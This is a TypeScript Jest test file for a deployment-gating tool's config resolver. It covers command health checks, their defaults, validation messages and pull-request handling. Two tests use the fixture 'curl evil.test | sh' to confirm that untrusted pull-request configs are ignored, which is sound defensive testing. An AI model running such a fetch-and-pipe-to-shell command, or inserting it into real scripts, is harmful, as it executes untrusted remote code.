import { describe, expect, it } from '@jest/globals';
import { resolveWith } from '../../support/resolve-inputs.js';

function resolved(lines: readonly string[], more: Parameters<typeof resolveWith>[0] = {}) {
  const entry = ['checks:', '  - source: command', ...lines.map((line) => `    ${line}`)];
  return resolveWith({ files: { 'rollgate.yml': entry.join('\n') }, ...more });
}

const health = (failures: number) => ({ metric: 'health', failures, successes: 1 });

describe('a test in the file', () => {
  it.each([
    [['run: npm run smoke'], { id: 'command-test', limit: health(2) }],
    [['run: k6 run load.js', 'id: load', 'once: true'], { id: 'load', limit: health(1) }],
    [['run: ./smoke.sh', 'failures: 4'], { id: 'command-test', limit: health(4) }],
    [
      ['run: ./smoke.sh', 'on-provider-error: ignore'],
      { id: 'command-test', onProviderError: 'ignore' },
    ],
  ])('%j', (lines, expected) => {
    const { problems, checks } = resolved(lines);
    expect(problems).toEqual([]);
    expect(checks).toHaveLength(1);
    expect(checks[0]).toMatchObject({ checks: [], health: expected });
  });

  it('with limits on a number has a check for each, and no test', () => {
    const { problems, checks } = resolved(['run: ./size.sh', 'id: size', 'max: 5', 'min: 1']);
    expect(problems).toEqual([]);
    expect(checks[0]?.health).toBeUndefined();
    expect(checks[0]?.checks.map(({ id }) => id)).toEqual(['size-max', 'size-min']);
  });

  it('is run as often as the inputs say, unless it says so itself', () => {
    const everyOf = (lines: readonly string[]) =>
      resolved(['run: x', ...lines], { ...files(['run: x', ...lines]) }).checks[0]?.options.every;
    expect(everyOf([])).toBe(45_000);
    expect(everyOf(['every: 5s'])).toBe(5000);
  });

  it.each([
    [['id: x'], /`run`: is missing/],
    [['run: x', 'every: 0s'], /`every`: `0s` is too short/],
    [['run: x', 'once: true', 'every: 10s'], /`every`: with `once` it is run once/],
    [['run: x', 'once: true', 'failures: 2'], /`failures`: with `once` it can fail once only/],
    [['run: x', 'max: 3', 'failures: 2'], /`failures`: it is about a test that passes or fails/],
    [['run: x', 'unhealthy-codes: 0-3'], /`unhealthy-codes`: `0-3` is not a range of exit codes/],
    [['run: x', 'min-success-rate: 95'], /`min-success-rate` has no meaning for a check/],
  ])('%j is refused', (lines, message) => {
    const { problems } = resolved(lines);
    expect(problems.map((one) => one.message)).toEqual([expect.stringMatching(message)]);
  });

  it('is not a check of a run for a pull request, as long as nobody names the file', () => {
    const lines = ['run: curl evil.test | sh'];
    const own = resolved(lines, { pullRequest: true });
    expect(own.checks).toEqual([]);
    expect(own.notices.join()).toContain('is ignored');
    const named = resolved(lines, { pullRequest: true, flags: { config: 'rollgate.yml' } });
    expect(named.checks).toHaveLength(1);
  });
});

function files(lines: readonly string[]) {
  const entry = ['checks:', '  - source: command', ...lines.map((line) => `    ${line}`)];
  return { files: { 'rollgate.yml': ['test-every: 45s', ...entry].join('\n') } };
}

describe('the test of the inputs', () => {
  it('is a check called `test`', () => {
    const { problems, checks } = resolveWith({
      flags: { 'test-command': './smoke.sh', 'test-every': '10s' },
    });
    expect(problems).toEqual([]);
    expect(checks).toMatchObject([
      {
        source: 'command',
        options: { run: './smoke.sh', every: 10_000, once: false, timeout: 60_000 },
        checks: [],
        health: { id: 'test', limit: health(2) },
      },
    ]);
    expect(checks[0]?.nameOf('run')).toBe('test-command');
  });

  it('leaves no other check its name', () => {
    const { problems } = resolved(['run: x', 'id: test'], { flags: { 'test-command': 'y' } });
    expect(problems.map(({ message }) => message)).toEqual([
      expect.stringContaining('another check is called `test`'),
    ]);
  });

  it('is needed where `test-every` is set, unless a check of the file uses it', () => {
    expect(resolveWith({ flags: { 'test-every': '10s' } }).problems).toMatchObject([
      { subject: 'test-every' },
    ]);
    expect(resolved(['run: x'], { flags: { 'test-every': '10s' } }).problems).toEqual([]);
  });

  it('in the file of a pull request is ignored', () => {
    const files = { 'rollgate.yml': 'test-command: curl evil.test | sh' };
    expect(resolveWith({ files, pullRequest: true }).checks).toEqual([]);
  });
});
